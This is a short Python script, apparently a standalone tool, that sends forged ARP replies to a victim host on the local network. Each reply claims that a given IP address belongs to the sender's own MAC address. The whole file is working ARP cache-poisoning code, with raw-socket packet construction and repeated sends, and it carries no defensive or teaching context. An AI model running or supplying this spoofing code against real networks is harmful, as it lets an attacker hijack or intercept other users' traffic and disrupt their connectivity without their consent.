"""Tells one neighbour that somebody else's address is here: `arp_claim.py CLAIMED-IP VICTIM-IP VICTIM-MAC`."""
import socket
import struct
import sys
import time

claimed, victim, victim_mac = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3].replace(':', ''))
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind(('eth0', 0x0806))
own_mac = sock.getsockname()[4]
reply = struct.pack('!6s6sHHHBBH6s4s6s4s', victim_mac, own_mac, 0x0806, 1, 0x0800, 6, 4, 2, own_mac,
                    socket.inet_aton(claimed), victim_mac, socket.inet_aton(victim))
for _ in range(4):
    sock.send(reply)
    time.sleep(0.5)
